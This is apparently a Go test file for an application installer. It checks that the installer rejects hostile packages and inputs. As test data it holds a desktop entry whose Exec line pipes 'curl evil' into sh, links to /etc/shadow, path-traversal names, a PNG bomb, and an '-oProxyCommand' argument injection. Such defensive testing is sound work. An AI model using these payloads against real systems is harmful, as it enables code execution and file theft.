//go:build !386

package content

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"

	"github.com/larch-project/larch/convert/tarball"
	"github.com/larch-project/larch/install"
	"github.com/larch-project/larch/release"
	"github.com/larch-project/larch/tree"
)

// described is an application whose tree has this metadata, which the release shows
// as it is.
func described(meta string) *lie {
	return &lie{text: text(folder("/"), folder("/export"), folder("/files"), file("/metadata", meta)),
		document: func(r *release.Release) { r.Metadata = meta }}
}

// exporting is an application with these lines below /export/share; folders are made.
func exporting(lines ...line) []byte {
	made := map[string]line{}
	for _, l := range lines {
		l.path = "/export/share/" + l.path
		made[l.path] = l
		for dir := filepath.Dir(l.path); dir != "/export"; dir = filepath.Dir(dir) {
			if _, there := made[dir]; !there {
				made[dir] = folder(dir)
			}
		}
	}
	all := []line{folder("/"), folder("/export"), folder("/files"), file("/metadata", metadata)}
	for _, l := range made {
		all = append(all, l)
	}
	sortLines(all)
	return text(all...)
}

const desktop = "[Desktop Entry]\nType=Application\nName=Hello\nExec=sh -c 'curl evil | sh' %U\nIcon=" + appID + "\n"

// exports lists what the desktop sees of an installation.
func (m *machine) exports(t testing.TB) (names []string) {
	t.Helper()
	g, err := m.Current()
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range g.Find(hello).Exports {
		names = append(names, e.Name)
		info, err := os.Lstat(filepath.Join(m.dir, "current/exports", e.Name))
		if err != nil || !info.Mode().IsRegular() || info.Mode().Perm()&0o022 != 0 {
			t.Errorf("%s: %v, %v", e.Name, info, err)
		}
	}
	return names
}

// exportsOnly installs an application and compares what of it the desktop sees.
func (w *world) exportsOnly(t *testing.T, what string, lines []line, want ...string) {
	t.Helper()
	t.Run(name("%s", what), func(t *testing.T) {
		w.p.tell(t, &lie{text: exporting(lines...)}, byFiles)
		if err := w.m.update(t.Context()); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(append([]string{"bin/" + appID}, want...), w.m.exports(t)); diff != "" {
			t.Errorf("exports:\n%s", diff)
		}
		if len(want) == 0 && len(w.m.warns) != len(lines) {
			t.Errorf("%d warnings for %d files: %v", len(w.m.warns), len(lines), w.m.warns)
		}
		for _, warning := range w.m.warns {
			judgeMessage(t, errors.New(warning.Text))
		}
		judgeFiles(t, w.m.dir)
		w.back(t)
	})
}

// TestShown is about what people are shown, what the desktop gets, and files that are
// opened.
func TestShown(t *testing.T) {
	head := metadata
	t.Run("L-01 permissions that are shown are those that are used", func(t *testing.T) {
		w := newWorld(t)
		more := head + "[Context]\nshared=network;\n"
		tell := func(what, shown, used string) {
			l := described(used)
			l.document = func(r *release.Release) { r.Metadata = shown }
			w.refuse(t, what, l, []error{anyOf{errRelease, release.ErrFormat, release.ErrMetadata}})
		}
		w.p.keep([]byte(more))
		tell("fewer shown", head, more)
		tell("none shown", "", more)
		tell("more shown", more, head)
		tell("another order", head+"[Environment]\nA=1\n[Context]\nshared=network;\n", more)
		for what, text := range map[string]string{
			"hidden after NUL": head + "\x00[Context]\nshared=network;\n", "a section twice": head + "[Context]\nshared=ipc;\n[Context]\nshared=network;\n",
			"a key twice": head + "[Context]\nshared=ipc;\nshared=network;\n", "another id": strings.Replace(head, appID, "org.other.App", 1),
		} {
			w.p.keep([]byte(text))
			tell(what, text, text)
		}
		w.heal(t)
	})
	t.Run("L-02 an update that asks for more is not applied silently", func(t *testing.T) {
		w := realWorld(t)
		l := described(head + "[Context]\nfilesystems=home;\nshared=network;\n")
		w.p.keep([]byte(head + "[Context]\nfilesystems=home;\nshared=network;\n"))
		w.p.tell(t, l, byFiles)
		r := run(t, w.m.dir, "update")
		judgeRun(t, r, 7)
		if !strings.Contains(r.err, "--yes") {
			t.Error(r.err)
		}
		w.judge(t)
		judgeRun(t, run(t, w.m.dir, "update", "--yes"), 0)
		w.back(t)
		w.heal(t)
	})
	t.Run("L-05 extension folders that lead out", func(t *testing.T) {
		w := newWorld(t)
		for _, bad := range []string{"directory=../x", "directory=/abs", "directory=a/../../b", "directory=x\nsubdirectory-suffix=../..", "add-ld-path=/lib", "merge-dirs=a;../b;"} {
			meta := head + "[Extension org.example.Ext]\n" + bad + "\n"
			w.p.keep([]byte(meta))
			w.refuse(t, bad, described(meta), []error{release.ErrMetadata}, byFiles)
		}
		w.heal(t)
	})
	t.Run("L-06 extra data of hostile names; none is ever fetched", func(t *testing.T) {
		w := newWorld(t)
		for _, bad := range []string{"name=..", "name=a/b", "name=", "name=/etc/x", "name1=../x"} {
			meta := head + "[Extra Data]\n" + bad + "\nuri=file:///etc/passwd\nsize=1\n"
			w.p.keep([]byte(meta))
			w.refuse(t, bad, described(meta), []error{release.ErrMetadata}, byFiles)
		}
		meta := head + "[Extra Data]\nname=x\nuri=http://127.0.0.1:1/x\nsize=1\nchecksum=00\n"
		w.p.keep([]byte(meta))
		w.accept(t, "an address of the machine itself", described(meta))
		w.heal(t)
	})
	t.Run("L-08 exported files that are no files, or monsters", func(t *testing.T) {
		w := newWorld(t)
		png := func(width, height uint32) string {
			b := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")
			return string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(b, width), height)) + strings.Repeat("p", 100)
		}
		icon, entry := "icons/hicolor/48x48/apps/"+appID, "applications/"+appID+".desktop"
		large := desktop + strings.Repeat("# x\n", 100<<10)
		for _, data := range []string{png(48, 48), png(1<<31, 1<<31), desktop, large} {
			w.p.keep([]byte(data))
		}
		svg := "icons/hicolor/scalable/apps/" + appID + ".svg"
		for what, l := range map[string]line{
			"a link to a secret": link(entry, "/etc/shadow"), "a link to a file": link(icon+".png", "../../x"), "a PNG bomb": file(icon+".png", png(1<<31, 1<<31)),
			"a desktop entry of 400 KiB": file(entry, large), "an SVG with entities": file(svg, `<!DOCTYPE svg [<!ENTITY a "b">]><svg/>`),
			"an SVG with a style sheet": file(svg, `<?xml-stylesheet href="http://x"?><svg/>`), "no SVG": file(svg, "<html>"),
		} {
			w.exportsOnly(t, what, []line{l})
		}
		w.refuse(t, "a setuid icon", &lie{text: exporting(file(icon+".png", png(48, 48)).with(func(l *line) { l.mode = "104755" }))}, refused("R4"))
		w.exportsOnly(t, "what is right", []line{file(icon+".png", png(48, 48)), file(entry, desktop)}, "share/"+entry, "share/"+icon+".png")
		w.heal(t)
	})
	t.Run("L-09 exports under names of others", func(t *testing.T) {
		w := newWorld(t)
		w.p.keep([]byte(desktop))
		for _, id := range []string{"org.other.App", appID + "2", strings.ToUpper(appID), appID + "..x", "." + appID, appID + ".", appID + "-", "hello", appID + ".a b", appID + ".ü"} {
			w.exportsOnly(t, id, []line{file("applications/"+id+".desktop", desktop)})
		}
		w.heal(t)
	})
	t.Run("L-10 what starts by itself is never exported", func(t *testing.T) {
		w := newWorld(t)
		var lines []line
		for _, n := range []string{
			"dbus-1/services/" + appID + ".service", "dbus-1/system-services/" + appID + ".service", "systemd/user/" + appID + ".service", "polkit-1/actions/" + appID + ".policy",
			"autostart/" + appID + ".desktop", "applications/x/" + appID + ".desktop", "ld.so.conf.d/" + appID + ".conf", "profile.d/" + appID + ".sh", "udev/rules.d/" + appID + ".rules",
			"bash-completion/completions/" + appID, "man/man1/" + appID + ".1", "mime/packages/" + appID + ".xml", "metainfo/" + appID + ".xml", "gnome-shell/search-providers/" + appID + ".ini",
		} {
			lines = append(lines, file(n, "x"))
		}
		w.exportsOnly(t, "all of them", lines)
		w.heal(t)
	})
	t.Run("L-13 archives that end anywhere, or never", func(t *testing.T) {
		w := newWorld(t)
		good := archive(t, plain("files/a", noise(21, 20_000)))
		for n := 0; n < len(good)-1024; n += 1024 {
			w.refuseArchive(t, fmt.Sprintf("cut to %d", n), good[:n], errAny)
		}
		w.refuseArchive(t, "two of them", append(slices.Clone(good[:len(good)-1024]), good...), errAny)
		if _, err := tarball.Open("/dev/zero", tree.Rules{}); !errors.Is(err, tarball.ErrFormat) {
			t.Errorf("/dev/zero: %v", err)
		}
		fifo := filepath.Join(quick(t), "fifo")
		if err := unix.Mkfifo(fifo, 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := tarball.Open(fifo, tree.Rules{}); !errors.Is(err, tarball.ErrFormat) {
			t.Errorf("a fifo: %v", err)
		}
		w.heal(t)
	})
	t.Run("L-14 a file that adds a remote can add nothing else", func(t *testing.T) {
		good := "[Larch Repository]\nurl=https://example.org\nroot=e30=\n"
		for what, bad := range map[string]string{
			"a second group": good + "[Remote]\nurl=https://evil\n", "the group twice": good + good, "signatures off": good + "gpg-verify=false\n", "no-verify": good + "no-verify=true\n",
			"a key twice": good + "url=https://evil\n", "an option for an address": strings.Replace(good, "https://example.org", "-oProxyCommand=x", 1),
			"a newline in an address": strings.Replace(good, "https://example.org", `https://a\nroot=x`, 1), "no root": "[Larch Repository]\nurl=https://example.org\n",
			"no key for a root": strings.Replace(good, "e30=", "!!!", 1), "an escape in the title": good + "title=\x1b[2J\n", "NUL": good + "\x00", "1 MiB": good + strings.Repeat("# x\n", 1<<18), "nothing": "",
		} {
			parsed, err := install.ParseRemoteFile([]byte(bad))
			if err == nil {
				m := openMachine(t, filepath.Join(quick(t), "m"), now)
				_, err = m.AddRemoteFile(t.Context(), "example", parsed)
			}
			if err == nil {
				t.Errorf("%s: %+v", what, parsed)
				continue
			}
			judgeMessage(t, err)
		}
	})
	t.Run("L-07 names that lead out, by the command and its environment", func(t *testing.T) {
		w := realWorld(t)
		for _, bad := range []string{"../x", "/etc/passwd", "app/../../x/x86_64/stable", "app/org.example.Hello/../stable", "app/org.example.Hello/x86_64/..", "-x", "a\nb", "\x1b[2J", "..", "a/b/c/d/e", strings.Repeat("a", 300)} {
			for _, verb := range []string{"install", "info", "run", "path", "uninstall", "update"} {
				judgeRun(t, run(t, w.m.dir, verb, "--", bad), 2, 3)
			}
			judgeRun(t, run(t, w.m.dir, "remote", "add", "--root-key", w.p.fingerprint, "--", bad, w.p.path), 2)
			judgeRun(t, run(t, w.m.dir, "remote", "remove", "--", bad), 2, 3)
		}
		w.judge(t)
		w.heal(t)
	})
}
